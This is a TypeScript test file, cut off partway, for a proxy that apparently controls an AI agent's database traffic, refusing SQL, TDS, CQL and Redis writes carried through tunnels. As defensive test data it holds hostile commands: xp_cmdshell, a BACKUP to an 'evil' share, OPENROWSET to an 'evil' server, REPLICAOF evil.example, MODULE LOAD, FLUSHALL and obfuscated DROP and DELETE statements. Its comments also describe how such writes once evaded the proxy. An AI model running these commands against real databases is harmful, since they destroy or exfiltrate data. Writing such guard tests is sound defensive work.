// Eighteenth pass: SQL inside tunnels read in the protocol the agent really speaks (issue 15's
// tunnels, issue 23 class 2), in process: each reader (describe/tunnel-sql.ts, tunnel-mysql.ts)
// is given the bytes a real client sends and must find every statement the server would run, or
// refuse what it cannot read; the same reader is what the proxy runs per tunnel (tunnels.test.ts
// drives it live).
import { execFileSync, spawn } from 'node:child_process';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import http from 'node:http';
import net from 'node:net';
import dgram from 'node:dgram';
import { promises as dnsPromises } from 'node:dns';
import crypto from 'node:crypto';
import zlib from 'node:zlib';
import { Duplex } from 'node:stream';
import tls from 'node:tls';
import fc from 'fast-check';
import t, { type Test } from 'tap';
import { loadAdapters } from '../../describe/adapters/index.ts';
import { JsonMessagesReader, MAX_PG_MESSAGE, type CarriedStatement } from '../../describe/tunnel-sql.ts';
import { TdsReader, startsTdsSession } from '../../describe/tunnel-tds.ts';
import { RedisReader, RedisStart, redisStatement, startsRedisInline } from '../../describe/tunnel-redis.ts';
import { MongoReader, startsMongo } from '../../describe/tunnel-mongo.ts';
import { watchLoopStalls } from '../helpers/loop-stall.ts';
import { InnerSessionScan } from '../../describe/tunnel-inner.ts';
import { bridgeTargets } from '../../proxy/bridge-targets.ts';
import { AnswerTunnels, BodyStreams, bodyTunnel, dnsQueryNames, forgetScanRuns } from '../../proxy/body-tunnels.ts';
import { tempDir } from '../temp-dir.ts';
import { upstreamCert } from '../upstream-cert.ts';
import { freePort, missingRedis, startRedis } from '../helpers/pg-redis.ts';
import { curl, startTestAirlock } from './helpers.ts';
import { bridgeSession, readMysql, startWsUpstream } from './websocket-helpers.ts';
import { WebSocket, createWebSocketStream } from 'ws';
import { HttpProxyAgent } from 'http-proxy-agent';

/**
 * An opening sent as a tunnel's client sends it in POST bodies — raw, base64, or a form field of
 * %-escaped bytes — whole in one body, then cut at `at` across two bodies to one origin (a tunnel
 * server joins them): whether the lone body is refused, and whether either piece is.
 */
function sentInBodies(start: Buffer, framing: string, at: number): { alone: boolean; across: boolean; cutAt: number } {
  const frame = (b: Buffer): Buffer => framing === 'raw' ? b : framing === 'base64' ? Buffer.from(b.toString('base64')) : Buffer.from(`id=7&data=${[...b].map((c) => `%${c.toString(16).padStart(2, '0')}`).join('')}`);
  const alone = bodyTunnel(['Content-Type', 'application/octet-stream'], 'http://allowed.example/up', { captured: frame(start), truncated: false });
  const cutAt = 1 + (at % (start.length - 1));
  const streams = new BodyStreams();
  const first = streams.read('agent', 'http://allowed.example', { captured: frame(start.subarray(0, cutAt)), truncated: false });
  const second = streams.read('agent', 'http://allowed.example', { captured: frame(start.subarray(cutAt)), truncated: false });
  return { alone: !!alone && 'refusal' in alone, across: !!first || !!second, cutAt };
}

/**
 * `stream` read by a fresh InnerSessionScan in pieces cut at `cuts` (taken modulo its length),
 * after an empty piece first when `emptyFirst`: the first session it names, and the cut points.
 */
function scanCut(stream: Buffer, cuts: number[], emptyFirst = false): { found: string | undefined; points: number[] } {
  const points = [...new Set(cuts.map((c) => c % stream.length))].sort((a, b) => a - b);
  const scan = new InnerSessionScan();
  let found = emptyFirst ? scan.read(Buffer.alloc(0)) : undefined;
  let at = 0;
  for (const p of [...points, stream.length]) {
    found ??= scan.read(stream.subarray(at, p));
    at = p;
  }
  return { found, points };
}

const numRuns = Number(process.env.AIRLOCK_FUZZ_RUNS ?? 25);
const seed = process.env.AIRLOCK_FUZZ_SEED ? { seed: Number(process.env.AIRLOCK_FUZZ_SEED) } : {};
await loadAdapters();

/** A MySQL packet: 3-byte little-endian length, sequence id, payload. */
const mysqlPacket = (seq: number, payload: Buffer): Buffer => Buffer.concat([Buffer.from([payload.length & 0xff, (payload.length >> 8) & 0xff, payload.length >> 16, seq]), payload]);
/** MariaDB 10.11's client's handshake response (utf8mb4, no TLS, no compression). */
const mysqlHandshake = (): Buffer => mysqlPacket(1, Buffer.from('85a2bf00000010002100000000000000000000000000000000000000000000007800006d7973716c5f6e61746976655f70617373776f726400', 'hex'));
const mysqlCommand = (cmd: number, sql: string): Buffer => mysqlPacket(0, Buffer.concat([Buffer.from([cmd]), Buffer.from(sql)]));
/** COM_STMT_EXECUTE of statement 1 with one value bound in binary (what the server runs it with is never read). */
const mysqlExecute = mysqlPacket(0, Buffer.from('170100000000010000000001fe00012500', 'hex'));



/** A WebSocket bridge to a TCP service on loopback: each message's bytes to the service, its answers back; `onWrite` sees each message. */
function tcpBridge(t: Test, port: number, onWrite?: (d: Buffer) => void, banner?: string) {
  return startWsUpstream(t, {
    onConnection: (ws) => {
      // A bridge's own banner before the service's bytes (`{"status": "connected"}`).
      if (banner !== undefined) ws.send(banner);
      const s = net.connect(port, '127.0.0.1');
      s.on('data', (d) => ws.send(d, { binary: true }));
      s.on('error', () => ws.terminate());
      ws.on('message', (d: Buffer) => { s.write(d); onWrite?.(d); });
      ws.on('close', () => s.end());
    },
  });
}

/** A policy that lets the bridge's tunnel open and reads through it, and refuses every write it carries. */
function writesDenied(t: Test): string {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'airlock-redis-writes-'));
  t.teardown(() => fs.rmSync(dir, { recursive: true, force: true }));
  fs.writeFileSync(path.join(dir, 'policy.rego'), [
    'package airlock', 'import rego.v1',
    'default decision := {"action": "deny", "reason": "unknown destination", "rule": "default-deny"}',
    'decision := {"action": "allow", "reason": "the bridge", "rule": "upgrade"} if { input.request.host == "sql.example"; input.request.upgrade }',
    'writes if { some s in input.sql.statements; s.kind != "select" }',
    'writes if { input.sql.parsed == false }',
    'decision := {"action": "deny", "reason": "a write", "rule": "writes"} if { input.request.host == "sql.example"; input.request.method == "POST"; writes }',
    'decision := {"action": "allow", "reason": "a read", "rule": "reads"} if { input.request.host == "sql.example"; input.request.method == "POST"; not writes }',
  ].join('\n'));
  return dir;
}

/** A real redis-server and a WebSocket bridge in front of it (each message's bytes to Redis, its answers back). */
async function redisBehindBridge(t: Test) {
  process.env.AIRLOCK_MASTER_KEY ??= '3c'.repeat(32);
  const redis = await startRedis(t);
  const port = Number(new URL(redis.url).port);
  const bridge = await tcpBridge(t, port);
  return { redis, port, bridge };
}

t.test('eighteenth pass: a prepared MySQL statement is a read only when every reading of it is one, before it runs with values never seen', async (t) => {
  // `COM_STMT_PREPARE 'WITH c AS (SELECT 1) DELETE FROM users WHERE name LIKE ?'` (MySQL 8 runs
  // DML after a WITH) was judged as a narrow write with its parameter unbound, then
  // `COM_STMT_EXECUTE` bound `%` in binary and deleted every row: the reader took the statement
  // for a read by its first word, so the execute went on. So did a DELETE behind a nested comment
  // MySQL ends early (`/* /* */ DELETE … -- */ select`), and EXPLAIN ANALYZE of a DELETE.
  const writes = fc.record({
    lead: fc.constantFrom('WITH c AS (SELECT 1) ', 'with recursive c (n) as (select 1) ', '/* /* */ ', 'EXPLAIN ANALYZE ', 'explain analyze format=tree ', '(', 'DESCRIBE ANALYZE '),
    write: fc.constantFrom('DELETE FROM users WHERE name LIKE ?', 'UPDATE users SET role = ? WHERE id > ?', 'DELETE FROM users WHERE id <> ?'),
  }).map(({ lead, write }) => (lead === '/* /* */ ' ? `${lead}${write} -- */ select 1` : lead === '(' ? `(${write})` : `${lead}${write}`));
  await fc.assert(
    fc.property(writes, (sql) => {
      const r = readMysql([mysqlHandshake(), mysqlCommand(0x16, sql), mysqlExecute]);
      if (!r.refused) throw new Error(`${sql}: executed with values Airlock never read`);
    }),
    { numRuns: Math.min(numRuns, 21), ...seed },
  );
  // Controls: prepared reads run with their values.
  for (const sql of ['SELECT ?', 'SELECT id, name FROM users WHERE name LIKE ? ORDER BY id LIMIT 10', 'WITH c AS (SELECT id FROM users) SELECT * FROM c WHERE id = ?', 'SHOW TABLES', '/* hint */ SELECT id FROM users WHERE id = ?']) {
    t.same(readMysql([mysqlHandshake(), mysqlCommand(0x16, sql), mysqlExecute]), { sql: [sql] }, `${sql}: runs`);
  }
});

// SQL Server's TDS as tedious 18 sends it (captured against a server answering ENCRYPT_NOT_SUP:
// PRELOGIN, LOGIN7, the connect batch of session settings, a batch, an sp_executesql RPC).
const tedious = {
  prelogin: Buffer.from('120100350000010000001f000601002500010200260001030027000404002b000106002c0001ff1206000200000200000000000001', 'hex'),
  login: Buffer.from('100100bd00000100b5000000040000740010000000000000430f000000000000f000001800000000090400005e000200620002006600010068000700760009008800040093000700a1000a00b5000000010203040506b5000000b5000000b50000000000000076006d007300610022a554006500640069006f00750073003100320037002e0030002e0030002e0031008c0000000a0100000001ff54006500640069006f0075007300750073005f0065006e0067006c00690073006800', 'hex'),
  connectBatch: Buffer.from('010102f40000010016000000120000000200000000000000000001000000730065007400200061006e00730069005f006e0075006c006c00730020006f006e000a00730065007400200061006e00730069005f006e0075006c006c005f00640066006c0074005f006f006e0020006f006e000a00730065007400200061006e00730069005f00700061006400640069006e00670020006f006e000a00730065007400200061006e00730069005f007700610072006e0069006e006700730020006f006e000a00730065007400200061007200690074006800610062006f007200740020006f006e000a00730065007400200063006f006e006300610074005f006e0075006c006c005f007900690065006c00640073005f006e0075006c006c0020006f006e000a007300650074002000640061007400650066006900720073007400200037000a007300650074002000640061007400650066006f0072006d006100740020006d00640079000a00730065007400200069006d0070006c0069006300690074005f007400720061006e00730061006300740069006f006e00730020006f00660066000a0073006500740020006c0061006e00670075006100670065002000750073005f0065006e0067006c006900730068000a0073006500740020006e0075006d0065007200690063005f0072006f0075006e006400610062006f007200740020006f00660066000a007300650074002000710075006f007400650064005f006900640065006e0074006900660069006500720020006f006e000a0073006500740020007400650078007400730069007a006500200032003100340037003400380033003600340037000a0073006500740020007400720061006e00730061006300740069006f006e002000690073006f006c006100740069006f006e0020006c006500760065006c0020007200650061006400200063006f006d006d00690074007400650064000a00730065007400200078006100630074005f00610062006f007200740020006f0066006600', 'hex'),
  dropBatch: Buffer.from('0101003e0000010016000000120000000200000000000000000001000000440052004f00500020005400410042004c004500200075007300650072007300', 'hex'),
  executeSql: Buffer.from('030100d40000010016000000120000000200000000000000000001000000ffff0a0000000a4000730074006100740065006d0065006e00740000e7480000000000004800440045004c004500540045002000460052004f004d0020007500730065007200730020005700480045005200450020006e0061006d00650020004c0049004b00450020004000700007400070006100720061006d00730000e71c0000000000001c004000700020006e007600610072006300680061007200280031002900024000700000e70200000000000002002500', 'hex'),
};
/** A TDS packet: type, status (EOM), big-endian length, SPID 0, packet id 1, window 0. */
const tdsPacket = (type: number, payload: Buffer, status = 1): Buffer => {
  const h = Buffer.from([type, status, 0, 0, 0, 0, 1, 0]);
  h.writeUInt16BE(payload.length + 8, 2);
  return Buffer.concat([h, payload]);
};
/** ALL_HEADERS with the transaction descriptor header (no transaction, one request outstanding), as tedious writes it. */
const allHeaders = Buffer.from('160000001200000002000000000000000000010000000000'.slice(0, 44), 'hex');
const u16 = (s: string): Buffer => Buffer.from(s, 'utf16le');
const tdsBatch = (sql: string): Buffer => tdsPacket(0x01, Buffer.concat([allHeaders, u16(sql)]));
/** An NVARCHAR RPC parameter (name, status 0, max length, an empty collation, the value). */
const nvarchar = (name: string, value: string): Buffer => {
  const v = u16(value);
  const head = Buffer.alloc(2);
  head.writeUInt16LE(Math.max(v.length, 2));
  const len = Buffer.alloc(2);
  len.writeUInt16LE(v.length);
  return Buffer.concat([Buffer.from([name.length]), u16(name), Buffer.from([0, 0xe7]), head, Buffer.alloc(5), len, v]);
};
/** An RPC by procedure id (sp_executesql is 10) with NVARCHAR parameters. */
const tdsRpc = (id: number, params: Array<[string, string]>): Buffer => tdsPacket(0x03, Buffer.concat([allHeaders, Buffer.from([0xff, 0xff, id, 0, 0, 0]), ...params.map(([n, v]) => nvarchar(n, v))]));

/** What a TDS reader finds in `msgs`: each statement's twin body, and why it refused, if it did. */
function readTds(msgs: Buffer[], server?: Buffer): { bodies: Array<CarriedStatement['body']>; refused?: string } {
  const reader = new TdsReader();
  if (server) reader.observe(server);
  const bodies: Array<CarriedStatement['body']> = [];
  for (const m of msgs) {
    const r = reader.read(m);
    bodies.push(...r.statements.map((st) => st.body));
    if (r.refused) return { bodies, refused: r.refused };
  }
  return { bodies };
}
const opened = (): Buffer[] => [tedious.prelogin, tedious.login, tedious.connectBatch];

t.test('eighteenth pass: SQL Server\'s TDS through a bridge is read packet by packet, each batch and RPC statement judged', async (t) => {
  // websockify before port 1433: tedious's `DROP TABLE users` went on undecided (its UTF-16 text,
  // NULs between the letters, held no word of SQL to the text reader).
  t.same(tdsBatch('DROP TABLE users'), tedious.dropBatch, 'the batch builder writes what tedious sends');
  t.same(tdsRpc(10, [['@statement', 'DELETE FROM users WHERE name LIKE @p'], ['@params', '@p nvarchar(1)'], ['@p', '%']]), tedious.executeSql, 'the RPC builder writes what tedious sends');
  const tsqlWrites = fc.constantFrom(
    'DROP TABLE users', 'IF 1 = 1 DROP TABLE users', 'SELECT 1\nDELETE users', "DECLARE @s nvarchar(99) = N'DROP TABLE users'; EXEC (@s)",
    "WAITFOR DELAY '0:0:1'; SHUTDOWN WITH NOWAIT", "SELECT 'a\\'; DROP TABLE users --'", 'SELECT 1 /* /* */ */ TRUNCATE TABLE users',
    "EXEC xp_cmdshell 'whoami'", 'SELECT * INTO public_copy FROM users', "SELECT * FROM OPENROWSET('SQLNCLI', 'Server=evil;', 'SELECT 1')",
    'SET IDENTITY_INSERT users ON', "BACKUP DATABASE app TO DISK = '\\\\evil\\share\\app.bak'", 'sp_configure', 'WITH c AS (SELECT 1 AS x) UPDATE users SET role = 1',
    'BEGIN TRAN; DELETE FROM users; COMMIT', '[dbo].[purge_orders]', 'SELECT TOP 1 dbo.purge_orders()', 'SELECT * FROM [dbo] . [wipe] (1)',
  );
  await fc.assert(
    fc.property(tsqlWrites, fc.constantFrom('batch', 'sp_executesql', 'two packets'), (sql, how) => {
      const msg = how === 'batch' ? [tdsBatch(sql)] : how === 'two packets' ? (() => { const b = tdsBatch(sql); const first = tdsPacket(0x01, b.subarray(8, 30), 0); return [first, tdsPacket(0x01, b.subarray(30))]; })() : [tdsRpc(10, [['@statement', sql]])];
      const r = readTds([...opened(), ...msg]);
      const last = r.bodies[r.bodies.length - 1];
      if (!r.refused && !(last && typeof last.sql === 'string' && last.sql === sql)) throw new Error(`${how} ${sql}: ${JSON.stringify(r)}`);
    }),
    { numRuns: Math.min(numRuns * 2, 48), ...seed },
  );
  // Values bound to a statement that may write are binary, read by no grammar: refused; so is a handle run after a prepared write.
  t.ok(readTds([...opened(), tedious.executeSql]).refused, 'sp_executesql of a DELETE with a value bound: refused');
  t.ok(readTds([...opened(), tdsRpc(11, [['@handle', ''], ['@params', '@p int'], ['@stmt', 'DELETE FROM users WHERE id > @p'], ['@options', '']]), tdsRpc(12, [['@handle', ''], ['@p', '0']])]).refused, 'sp_prepare of a DELETE then sp_execute: refused');
  t.ok(readTds([...opened(), tdsPacket(0x03, Buffer.concat([allHeaders, Buffer.from([4, 0]), u16('purg'), Buffer.from([0, 0])]))]).refused, 'a procedure called by name: refused');
  // Encryption: the client asking for it, or a server that encrypts the whole session, is refused; a login encrypted alone is read around.
  const askOn = Buffer.from(tedious.prelogin);
  askOn[8 + 37] = 0x01;
  t.ok(readTds([askOn]).refused, 'a client asking for encryption: refused');
  const offPrelogin = Buffer.from(tedious.prelogin);
  offPrelogin[8 + 37] = 0x00;
  const serverSays = (enc: number): Buffer => tdsPacket(0x04, Buffer.from([0, 0, 11, 0, 6, 1, 0, 17, 0, 1, 0xff, 15, 0, 7, 0xd0, 0, 0, enc]));
  const tlsHandshake = tdsPacket(0x12, Buffer.from('160303000501000001ff', 'hex'));
  const tlsRecord = Buffer.from('170303000a00112233445566778899', 'hex');
  t.ok(readTds([offPrelogin, tlsHandshake, tlsRecord, tdsBatch('DROP TABLE users')], serverSays(3)).refused, 'a server that requires encryption: the handshake is refused');
  t.same(readTds([offPrelogin, tlsHandshake, tlsRecord, tdsBatch('DROP TABLE users')], serverSays(0)).bodies, [{ sql: 'DROP TABLE users' }], 'a login encrypted alone: the batch after it is read');
  t.ok(readTds([offPrelogin, tlsHandshake, tlsRecord, tdsBatch('SELECT 1'), tlsRecord], serverSays(0)).refused, 'TLS after the login: refused');
  // A session a bridge opened starts at a batch or RPC, read alike; other binary messages (MQTT's CONNECT, a protobuf) are not taken for one.
  t.ok(startsTdsSession(tedious.dropBatch) && startsTdsSession(tedious.executeSql), 'a batch or an RPC first: TDS');
  for (const other of ['101000044d5154540402003c0000', '0a0a0801120474657374', '0101000800000100']) t.notOk(startsTdsSession(Buffer.from(other, 'hex')), `${other}: not TDS`);
  const bareReader = new TdsReader({ sessionOpen: true });
  t.same(bareReader.read(tedious.dropBatch).statements.map((st) => st.body), [{ sql: 'DROP TABLE users' }], 'a session the bridge opened: the batch is read');
  // Controls: the connect batch, reads and an sp_executesql read with its value go on as reads.
  const reads = readTds([...opened(), tdsBatch('SELECT TOP 10 id, name FROM users WHERE name = N\'x\' ORDER BY id'), tdsBatch('SELECT @@VERSION'), tdsBatch('SELECT COUNT(*), MAX(u.id) FROM dbo.users u WHERE u.name LIKE N\'a.b(%\''), tdsRpc(10, [['@statement', 'SELECT id FROM users WHERE name LIKE @p'], ['@params', '@p nvarchar(1)'], ['@p', '%']])]);
  t.notOk(reads.refused, 'reads are not refused');
  t.ok(reads.bodies.every((b) => typeof b.query === 'string' && b.sql === undefined), `reads are judged as text a grammar may read: ${JSON.stringify(reads.bodies)}`);
});

t.test('eighteenth pass (live): a TDS DROP through a bridge never reaches the server; the connect batch and reads do', async (t) => {
  process.env.AIRLOCK_MASTER_KEY ??= '3c'.repeat(32);
  // A bridge to SQL Server (websockify before 1433): answers PRELOGIN (no encryption), LOGIN7 and every other message as the server does, in TDS.
  const answer = (type: number): Buffer => type === 0x12
    ? tdsPacket(0x04, Buffer.from([0, 0, 11, 0, 6, 1, 0, 17, 0, 1, 0xff, 15, 0, 7, 0xd0, 0, 0, 2]))
    : tdsPacket(0x04, Buffer.from('fd0000c1000000000000000000', 'hex'));
  const bridge = await startWsUpstream(t, { onConnection: (ws) => ws.on('message', (d: Buffer) => ws.send(answer(d[0]!), { binary: true })) });
  const a = await startTestAirlock(t, { policy: 'streams', resolve: ['sql.example=127.0.0.1'], allowPrivate: [`127.0.0.1:${bridge.port}`] });
  const session = (msgs: Buffer[]): Promise<{ code: number; got: string }> => bridgeSession(bridge, a.proxyUrl, 'sql.example', msgs, 'utf16le');
  const dropped = await session([...opened(), tedious.dropBatch, tdsBatch('SELECT 1')]);
  t.equal(dropped.code, 1008, 'the DROP closes the tunnel');
  t.notOk(dropped.got.includes('DROP TABLE'), 'the server never got it');
  t.ok(dropped.got.includes('set ansi_nulls on'), 'the connect batch went on');
  // A bridge that logged in itself: the stream starts at the first batch.
  const bare = await session([tedious.dropBatch]);
  t.equal(bare.code, 1008, 'a DROP first on a session the bridge opened closes the tunnel');
  t.notOk(bare.got.includes('DROP TABLE'), 'the server never got it');
  const read = await session([...opened(), tdsBatch('SELECT TOP 10 id FROM users ORDER BY id')]);
  t.not(read.code, 1008, 'a read is relayed');
  t.ok(read.got.includes('SELECT TOP 10 id'), 'the server got the read');
});

/** A Cassandra native protocol v4 QUERY frame: header (version, flags, stream, opcode 7, length), the CQL as a long string, consistency ONE, no flags. */
const cqlQuery = (cql: string, stream = 1): Buffer => {
  const q = Buffer.from(cql);
  const body = Buffer.concat([Buffer.alloc(4), q, Buffer.from([0, 1, 0])]);
  body.writeInt32BE(q.length, 0);
  const head = Buffer.from([0x04, 0, 0, stream, 0x07, 0, 0, 0, 0]);
  head.writeInt32BE(body.length, 5);
  return Buffer.concat([head, body]);
};

t.test('eighteenth pass: SQL inside a binary protocol Airlock has no reader for (CQL\'s native frames) is read in its runs of text', async (t) => {
  // Cassandra's native protocol through a bridge: `QUERY 'DROP TABLE users'` is a length-prefixed
  // string between binary header bytes, so the text reader found no SQL (control bytes before it)
  // and relayed it undecided; a length that is a letter's code glues onto the statement (`DDROP …`).
  const runs = (msg: Buffer): Array<CarriedStatement['body']> => new JsonMessagesReader().read(msg, true).statements.map((st) => st.body);
  await fc.assert(
    fc.property(fc.constantFrom('DROP TABLE users', 'TRUNCATE users', 'DELETE FROM users WHERE id > 0', "UPDATE users SET role = 'admin' WHERE id = 7", 'DROP KEYSPACE app'), fc.integer({ min: 0, max: 60 }), fc.boolean(), (cql, pad, glued) => {
      // Padding in a comment makes the length byte any value, a letter's code among them.
      const text = glued ? `${cql} /*${'x'.repeat(Math.max(0, 0x44 - cql.length - 4))}*/` : `${cql}${' '.repeat(pad)}`;
      const found = runs(cqlQuery(text));
      if (!found.some((b) => (b.query ?? b.sql) === text)) throw new Error(`${JSON.stringify(text)}: ${JSON.stringify(found)}`);
    }),
    { numRuns: Math.min(numRuns * 2, 40), ...seed },
  );
  // UTF-16 text in a framing Airlock does not know (a TDS batch whose stream was not recognised), at either byte alignment.
  for (const lead of [Buffer.from([0x05, 0, 0, 0]), Buffer.from([0x05, 0, 0])]) {
    t.ok(runs(Buffer.concat([lead, Buffer.from('DROP TABLE users', 'utf16le'), Buffer.from([0, 0])])).some((b) => (b.query ?? b.sql) === 'DROP TABLE users'), `UTF-16 after ${lead.length} bytes: read`);
  }
  // Controls: a PNG and a protobuf chat message hold no statement; a run past the bound is refused, not skipped.
  t.same(runs(Buffer.concat([Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex'), Buffer.alloc(64, 7)])), [], 'a PNG: nothing');
  t.same(runs(Buffer.from('0a05616c6963651214686176652061206e69636520646179206f7574', 'hex')), [], 'a protobuf chat message: nothing');
  t.ok(new JsonMessagesReader().read(Buffer.concat(Array.from({ length: 20 }, (_v, i) => cqlQuery(`SELECT * FROM t${i}`))), true).refused, 'more places than read: refused');
  // Live: a bridge to Cassandra; the DROP never reaches it, a SELECT does.
  process.env.AIRLOCK_MASTER_KEY ??= '3c'.repeat(32);
  const bridge = await startWsUpstream(t, { onConnection: (ws) => ws.on('message', () => ws.send(Buffer.from([0x84, 0, 0, 1, 0x08, 0, 0, 0, 4, 0, 0, 0, 1]), { binary: true })) });
  const a = await startTestAirlock(t, { policy: 'streams', resolve: ['sql.example=127.0.0.1'], allowPrivate: [`127.0.0.1:${bridge.port}`] });
  const send = (msgs: Buffer[]): Promise<{ code: number; got: string }> => bridgeSession(bridge, a.proxyUrl, 'sql.example', msgs, 'latin1');
  const dropped = await send([cqlQuery('SELECT release_version FROM system.local'), cqlQuery('DROP TABLE users')]);
  t.equal(dropped.code, 1008, 'the DROP closes the tunnel');
  t.notOk(dropped.got.includes('DROP TABLE'), 'Cassandra never got it');
  t.ok(dropped.got.includes('release_version'), 'the read before it went on');
});

/** A Redis request as clients send it: a multibulk array of bulk strings (RESP2 and RESP3 alike). */
const resp = (args: string[]): Buffer => Buffer.from(`*${args.length}\r\n${args.map((a) => `$${Buffer.byteLength(a)}\r\n${a}\r\n`).join('')}`);
/** The same command as an inline line (`redis-cli` over a raw socket, telnet), quoted where it must be. */
const inline = (args: string[]): Buffer => Buffer.from(`${args.map((a) => (/[\s"']/.test(a) ? `"${a.replace(/["\\]/g, (c) => `\\${c}`)}"` : a)).join(' ')}\r\n`);

t.test('nineteenth pass: Redis commands through a bridge are read as Redis reads them, each that may write judged', async (t) => {
  // Left open by the eighteenth pass: `FLUSHALL`, `CONFIG SET dir`, `EVAL`, `MODULE LOAD` through a
  // bridge before port 6379 are no SQL, so the tunnel relayed them undecided.
  const dangerous: string[][] = [['FLUSHALL'], ['flushdb', 'ASYNC'], ['CONFIG', 'SET', 'dir', '/tmp'], ['EVAL', "redis.call('flushall')", '0'], ['MODULE', 'LOAD', '/tmp/x.so'], ['SCRIPT', 'FLUSH'], ['REPLICAOF', 'evil.example', '6379'], ['SWAPDB', '0', '1'], ['ACL', 'SETUSER', 'x', 'on', '>p', '+@all'], ['FUNCTION', 'FLUSH']];
  const readAll = (msgs: Buffer[]): { twins: string[]; refused?: string } => {
    // As the proxy reads a tunnel (proxy/tunnel-sql.ts): from where a Redis request starts.
    const start = new RedisStart();
    let reader: RedisReader | undefined;
    const twins: string[] = [];
    for (const m of msgs) {
      const from = reader ? m : start.feed(m);
      if (!reader && from) reader = new RedisReader(1 << 20);
      const r = from && reader?.read(from);
      twins.push(...(r?.statements ?? []).map((s) => String(s.body.sql)));
      if (r?.refused) return { twins, refused: r.refused };
    }
    return { twins };
  };
  await fc.assert(
    fc.property(fc.constantFrom(...dangerous), fc.constantFrom('resp', 'inline'), fc.boolean(), fc.nat(), (args, how, afterPing, cut) => {
      // A read first (inline or multibulk), then the command, the stream cut anywhere (a bridge joins the pieces).
      const first = afterPing ? (how === 'resp' ? Buffer.from('PING\r\n') : resp(['PING'])) : Buffer.alloc(0);
      const bytes = Buffer.concat([first, how === 'resp' ? resp(args) : inline(args)]);
      const at = 1 + (cut % (bytes.length - 1));
      const msgs = [bytes.subarray(0, at), bytes.subarray(at)];
      const { twins } = readAll(msgs);
      if (twins.length !== 1 || !/^(DROP SCHEMA|COPY redis FROM PROGRAM)/.test(twins[0]!)) throw new Error(`${how} ${args.join(' ')}: ${JSON.stringify(twins)}`);
    }),
    { numRuns: Math.min(numRuns * 2, 40), ...seed },
  );
  // Reads go on (nothing judged); writes are judged as narrow writes of their key; a bad request is refused.
  t.same(readAll([resp(['HELLO', '3']), resp(['GET', 'k']), resp(['CONFIG', 'GET', 'maxmemory']), resp(['SCAN', '0'])]).twins, [], 'reads: nothing judged');
  t.same(readAll([resp(['SET', 'k', 'v']), resp(['DEL', 'a', 'b'])]).twins, ["UPDATE redis SET value = 'v' WHERE command = 'set' AND key = 'k'", "DELETE FROM redis WHERE key IN ('a', 'b')"], 'writes: their keys');
  t.ok(readAll([resp(['PING']), Buffer.from('*1\r\nX\r\n')]).refused, 'a multibulk argument that is not bulk: refused');
  // Chat that begins with a Redis word is no command Redis runs (its arguments are wrong): not read as Redis.
  for (const chat of ['save the file\n', 'flushall the caches please\n', 'config files are in /etc\n', 'eval this idea\n', 'shutdown at noon\n']) t.notOk(startsRedisInline(Buffer.from(chat)), chat.trim());
  // Live: a real redis-server behind a bridge; the FLUSHALL never runs, the reads before it do.
  const missing = missingRedis();
  if (missing) return void t.comment(missing);
  const { redis, port, bridge } = await redisBehindBridge(t);
  const a = await startTestAirlock(t, { policy: 'streams', resolve: ['sql.example=127.0.0.1'], allowPrivate: [`127.0.0.1:${bridge.port}`] });
  const cli = (...args: string[]): string => execFileSync('redis-cli', ['-p', String(port), ...args]).toString().trim();
  cli('SET', 'keep', '1');
  for (const [how, msgs] of [['resp', [resp(['GET', 'keep']), resp(['FLUSHALL'])]], ['inline', [Buffer.from('GET keep\r\n'), Buffer.from('FLUSHALL\r\n')]], ['config', [resp(['CONFIG', 'SET', 'maxmemory', '1'])]]] as const) {
    const r = await bridgeSession(bridge, a.proxyUrl, 'sql.example', [...msgs], 'latin1');
    t.equal(r.code, 1008, `${how}: the tunnel is closed`);
    t.equal(cli('GET', 'keep'), '1', `${how}: the key is still there`);
    t.equal(cli('CONFIG', 'GET', 'maxmemory').split('\n')[1], '0', `${how}: the setting is unchanged`);
  }
  const read = await bridgeSession(bridge, a.proxyUrl, 'sql.example', [resp(['PING']), resp(['GET', 'keep'])], 'latin1');
  t.not(read.code, 1008, 'reads go on');
  t.ok(read.got.includes('GET'), 'the bridge got the read');
});

t.test('twentieth pass: a Redis session of inline narrow writes is read as Redis, by the command\'s arity or by the server\'s answer', async (t) => {
  // Left open by the nineteenth pass: a session whose first command is an inline narrow write
  // (`DEL sessions:admin\r\n`, `SET k v\n`) was not read as Redis until a multibulk request or a
  // command that acts on the server came, so every such write went on undecided.
  const writes: string[][] = [['DEL', 'sessions:admin'], ['del', 'a', 'b', 'c'], ['UNLINK', 'k'], ['HSET', 'user:1', 'role', 'admin'], ['SETEX', 'k', '10', 'v'], ['LPUSH', 'q', 'job'], ['INCRBY', 'balance', '1000'], ['ZADD', 'z', '1', 'm'], ['SET', 'k', 'v'], ['EXPIRE', 'k', '0'], ['RENAME', 'a', 'b'], ['PUBLISH', 'ch', 'msg']];
  const english = new Set(['set', 'expire', 'rename', 'publish']);
  await fc.assert(
    fc.property(fc.constantFrom(...writes), fc.boolean(), fc.nat(), (args, afterRead, cut) => {
      // English-named commands start a session on the CRLF every client sends; the others on `\n` too.
      const crlf = english.has(args[0]!.toLowerCase()) || cut % 2 === 0;
      const bytes = Buffer.from(`${afterRead ? 'GET k\r\n' : ''}${args.join(' ')}${crlf ? '\r\n' : '\n'}`);
      const start = new RedisStart();
      const at = 1 + (cut % (bytes.length - 1));
      let from: Buffer | undefined;
      for (const m of [bytes.subarray(0, at), bytes.subarray(at)]) from ??= start.feed(m);
      const twins = from ? new RedisReader(1 << 20).read(from).statements.map((s) => String(s.body.sql)) : [];
      if (twins.length !== 1) throw new Error(`${JSON.stringify(bytes.toString())}: ${JSON.stringify(twins)}`);
    }),
    { numRuns: Math.min(numRuns * 2, 40), ...seed },
  );
  // Chat whose words are Redis's, without a CRLF or with the wrong count, is no command.
  for (const chat of ['set the table\n', 'copy that please\n', 'append this\n', 'rename it\r\n', 'del\n', 'hset a b\n', 'publish the post now\r\n', 'move it\n']) t.notOk(startsRedisInline(Buffer.from(chat)), JSON.stringify(chat));
  // Live: a real redis-server behind a bridge, a policy that lets reads through and refuses writes.
  const missing = missingRedis();
  if (missing) return void t.comment(missing);
  const { redis, port, bridge } = await redisBehindBridge(t);
  const a = await startTestAirlock(t, { policy: writesDenied(t), resolve: ['sql.example=127.0.0.1'], allowPrivate: [`127.0.0.1:${bridge.port}`] });
  const cli = (...args: string[]): string => execFileSync('redis-cli', ['-p', String(port), ...args]).toString().trim();
  cli('SET', 'keep', '1');
